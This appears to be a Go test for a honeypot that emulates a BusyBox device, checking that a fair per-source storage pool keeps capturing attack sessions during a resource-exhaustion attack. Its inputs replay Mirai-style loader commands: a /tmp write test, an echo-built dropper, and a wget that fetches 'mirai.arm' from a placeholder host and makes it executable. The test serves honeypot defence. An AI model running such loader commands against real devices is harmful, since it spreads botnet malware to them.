package busybox

import (
	"context"
	"fmt"
	"strings"
	"testing"
)

// The attack that stopped capture for everyone with a plain shared pool:
// five addresses, 64 sessions each, every session filling its 1 MiB
// overlay. With the fair pool, a loader from a sixth address still passes
// its write test and drops its binary, and so do loaders from the
// attackers' own addresses... up to their share.
func TestPoolFairUnderExhaustion(t *testing.T) {
	d := newTestDevice(t, DefaultProfile(), DefaultLimits())
	ctx := context.Background()
	var held []*Shell
	defer func() {
		for _, sh := range held {
			sh.Close()
		}
	}()
	for src := 0; src < 5; src++ {
		for i := 0; i < 64; i++ {
			sh := d.NewShellFrom(ctx, fmt.Sprintf("198.51.100.%d", src))
			sh.Run("cd /tmp; dd if=/dev/zero of=fill bs=1024 count=1024")
			held = append(held, sh)
		}
	}
	if used := d.pool.used.Load(); used > d.pool.limit-d.pool.reserve {
		t.Fatalf("attackers hold %d of %d bytes, beyond the share they may take", used, d.pool.limit)
	}
	for src, n := range d.pool.sources {
		if n > d.pool.perSource {
			t.Errorf("source %s holds %d bytes, over its %d", src, n, d.pool.perSource)
		}
	}

	// A loader from another address: Mirai's write test, then an echo-built
	// dropper of a few KiB, then its download.
	sh := d.NewShellFrom(ctx, "203.0.113.9")
	defer sh.Close()
	out := string(sh.Run("cd /tmp; echo -e '\\x6b\\x61\\x6d\\x69' > .t; cat .t").Output)
	if !strings.Contains(out, "kami") {
		t.Fatalf("the new source's write test failed under the attack: %q", out)
	}
	chunk := strings.Repeat(`\x7f\x45\x4c\x46`, 256)
	for i := 0; i < 8; i++ {
		if out := string(sh.Run("echo -ne '" + chunk + "' >> dvrHelper").Output); out != "" {
			t.Fatalf("the new source's dropper failed: %q", out)
		}
	}
	r := sh.Run("wget http://192.0.2.10/bins/mirai.arm -O - > dvrHelper2; chmod 777 dvrHelper2")
	if len(r.Downloads) != 1 || r.Downloads[0].URL != "http://192.0.2.10/bins/mirai.arm" {
		t.Fatalf("the new source's download was not recorded: %+v", r.Downloads)
	}

	// When the attackers leave, their bytes come back.
	for _, s := range held {
		s.Close()
	}
	held = nil
	sh.Close()
	if used := d.pool.used.Load(); used != 0 {
		t.Errorf("%d bytes still held after every session closed", used)
	}
}
